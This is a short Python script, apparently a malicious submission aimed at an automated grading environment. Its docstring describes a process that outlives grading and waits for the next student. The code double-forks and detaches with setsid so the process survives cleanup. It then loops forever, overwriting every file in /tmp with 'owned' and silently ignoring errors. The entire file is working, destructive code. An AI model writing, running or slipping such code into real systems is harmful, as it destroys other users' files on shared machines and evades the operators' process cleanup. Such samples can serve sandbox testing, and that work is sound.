"""A process that outlives the grading, and waits for the next student."""

import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    while True:
        try:
            for name in os.listdir("/tmp"):
                open(f"/tmp/{name}", "w").write("owned")
            time.sleep(0.01)
        except OSError:
            continue
